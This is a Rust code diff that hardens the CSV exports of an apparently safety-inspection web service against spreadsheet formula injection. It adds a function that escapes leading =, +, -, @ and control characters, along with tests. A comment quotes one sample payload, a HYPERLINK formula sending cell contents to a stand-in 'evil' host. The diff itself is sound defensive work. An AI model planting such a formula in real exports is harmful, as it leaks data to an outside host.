@@ -38,14 +38,65 @@ pub(super) fn router() -> Router<AppState> {
         .route("/api/v1/routines/status", get(routine_status))
 }
 
+/// One cell of a CSV export. Text is neutralised for spreadsheets on the way out
+/// ([`spreadsheet_safe`]); numbers are written as they are, so that they stay numbers.
+#[derive(Debug, Clone, PartialEq, Eq)]
+enum Cell {
+    /// Anything a person or a document may have written (notes, names, ids, statuses).
+    Text(String),
+    /// A count or an amount the server computed.
+    Number(i64),
+}
+
+impl From<String> for Cell {
+    fn from(s: String) -> Self {
+        Cell::Text(s)
+    }
+}
+
+impl From<&str> for Cell {
+    fn from(s: &str) -> Self {
+        Cell::Text(s.to_string())
+    }
+}
+
+impl From<i64> for Cell {
+    fn from(n: i64) -> Self {
+        Cell::Number(n)
+    }
+}
+
+/// The text of a cell as a spreadsheet program will take it as text, never as a formula
+/// (CSV injection, OWASP): a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a leading `'`, which spreadsheets read as "this is text" and do not show.
+/// A note such as `=HYPERLINK("http://evil/?"&A1)` or `-2+3` typed on a tablet would
+/// otherwise be evaluated when the office opens the export.
+fn spreadsheet_safe(text: &str) -> std::borrow::Cow<'_, str> {
+    match text.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{text}").into(),
+        _ => text.into(),
+    }
+}
+
 /// A CSV download: UTF-8 with a byte-order mark, so that spreadsheet programs show the
-/// Chinese text correctly.
-fn csv_response(filename: &str, rows: Vec<Vec<String>>) -> Result<Response, AppError> {
+/// Chinese text correctly. Every export goes through here, so every text cell of every
+/// export is neutralised by [`spreadsheet_safe`].
+fn csv_response(
+    filename: &str,
+    header: &[&str],
+    rows: Vec<Vec<Cell>>,
+) -> Result<Response, AppError> {
     let mut writer = csv::Writer::from_writer(b"\xEF\xBB\xBF".to_vec());
+    let fail = |e: csv::Error| AppError::Internal(format!("csv: {e}"));
+    writer.write_record(header).map_err(fail)?;
     for row in rows {
+        let cells = row.iter().map(|cell| match cell {
+            Cell::Text(text) => spreadsheet_safe(text),
+            Cell::Number(n) => n.to_string().into(),
+        });
         writer
-            .write_record(&row)
-            .map_err(|e| AppError::Internal(format!("csv: {e}")))?;
+            .write_record(cells.map(|c| c.into_owned()))
+            .map_err(fail)?;
     }
     let bytes = writer
         .into_inner()
@@ -94,28 +145,25 @@ async fn violations_csv(
     filter.limit = MAX_CSV_ROWS;
     filter.offset = 0;
     let (rows, _) = state.store.violations(&filter).await?;
-    let mut out = vec![
-        [
-            "recorded_at",
-            "site",
-            "rule",
-            "rule_title",
-            "area",
-            "item",
-            "responsible_role",
-            "responsible_user",
-            "responsible_name",
-            "occurrences",
-            "fine_type",
-            "fine_yuan",
-            "status",
-            "recorded_by",
-            "note",
-            "inspection",
-        ]
-        .map(str::to_string)
-        .to_vec(),
+    let header = [
+        "recorded_at",
+        "site",
+        "rule",
+        "rule_title",
+        "area",
+        "item",
+        "responsible_role",
+        "responsible_user",
+        "responsible_name",
+        "occurrences",
+        "fine_type",
+        "fine_yuan",
+        "status",
+        "recorded_by",
+        "note",
+        "inspection",
     ];
+    let mut out: Vec<Vec<Cell>> = Vec::with_capacity(rows.len());
     for r in rows {
         let note = r
             .evidence
@@ -128,25 +176,25 @@ async fn violations_csv(
             })
             .unwrap_or_default();
         out.push(vec![
-            beijing_time(r.recorded_at),
-            r.site_id,
-            r.rule_id.clone(),
-            rule_title(&r.rule_id),
-            r.area_id.unwrap_or_default(),
-            r.item_id,
-            r.responsible_role,
-            r.responsible_user.unwrap_or_default(),
-            r.responsible_name.unwrap_or_default(),
-            r.occurrences.to_string(),
-            r.fine_type,
-            r.fine_yuan.to_string(),
-            r.status,
-            r.recorded_by,
-            note,
-            r.doc_id,
+            beijing_time(r.recorded_at).into(),
+            r.site_id.into(),
+            r.rule_id.clone().into(),
+            rule_title(&r.rule_id).into(),
+            r.area_id.unwrap_or_default().into(),
+            r.item_id.into(),
+            r.responsible_role.into(),
+            r.responsible_user.unwrap_or_default().into(),
+            r.responsible_name.unwrap_or_default().into(),
+            r.occurrences.into(),
+            r.fine_type.into(),
+            r.fine_yuan.into(),
+            r.status.into(),
+            r.recorded_by.into(),
+            note.into(),
+            r.doc_id.into(),
         ]);
     }
-    csv_response("violations.csv", out)
+    csv_response("violations.csv", &header, out)
 }
 
 #[derive(Debug, Deserialize)]
@@ -430,36 +478,33 @@ async fn monthly_csv(
     Query(q): Query<MonthQuery>,
 ) -> Result<Response, AppError> {
     let report = monthly_report(&state, &auth, q).await?;
-    let mut rows = vec![
-        [
-            "month",
-            "user_id",
-            "name",
-            "rule",
-            "rule_title",
-            "violations",
-            "fine_yuan",
-            "waived",
-            "waived_yuan",
-            "dismissal_reviews",
-            "tools_to_replace",
-        ]
-        .map(str::to_string)
-        .to_vec(),
+    let header = [
+        "month",
+        "user_id",
+        "name",
+        "rule",
+        "rule_title",
+        "violations",
+        "fine_yuan",
+        "waived",
+        "waived_yuan",
+        "dismissal_reviews",
+        "tools_to_replace",
     ];
+    let mut rows: Vec<Vec<Cell>> = Vec::new();
     let line = |user: &str, name: &str, rule: &str, t: &Tally| {
         vec![
-            report.month.clone(),
-            user.to_string(),
-            name.to_string(),
-            rule.to_string(),
-            rule_title(rule),
-            t.violations.to_string(),
-            t.fine_yuan.to_string(),
-            t.waived.to_string(),
-            t.waived_yuan.to_string(),
-            t.dismissal_reviews.to_string(),
-            t.tools_to_replace.to_string(),
+            report.month.as_str().into(),
+            user.into(),
+            name.into(),
+            rule.into(),
+            rule_title(rule).into(),
+            t.violations.into(),
+            t.fine_yuan.into(),
+            t.waived.into(),
+            t.waived_yuan.into(),
+            t.dismissal_reviews.into(),
+            t.tools_to_replace.into(),
         ]
     };
     for p in &report.people {
@@ -471,7 +516,7 @@ async fn monthly_csv(
         rows.push(line(user, name, "", &p.tally));
     }
     rows.push(line("", "合计", "", &report.total));
-    csv_response(&format!("report-{}.csv", report.month), rows)
+    csv_response(&format!("report-{}.csv", report.month), &header, rows)
 }
 
 #[derive(Debug, Deserialize)]
@@ -630,4 +675,27 @@ async fn routine_status(
     Ok(Json(
         json!({ "site": site, "from": first, "to": last, "missed": missed, "occurrences": occurrences }),
     ))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::spreadsheet_safe;
+
+    #[test]
+    fn cells_a_spreadsheet_would_evaluate_are_text() {
+        for (cell, safe) in [
+            ("=1+2", "'=1+2"),
+            ("+SUM(A1)", "'+SUM(A1)"),
+            ("-2+3", "'-2+3"),
+            ("@cmd", "'@cmd"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("油漆=危险", "油漆=危险"),
+            ("rags", "rags"),
+            (" =1", " =1"),
+            ("", ""),
+        ] {
+            assert_eq!(spreadsheet_safe(cell), safe, "{cell:?}");
+        }
+    }
 }
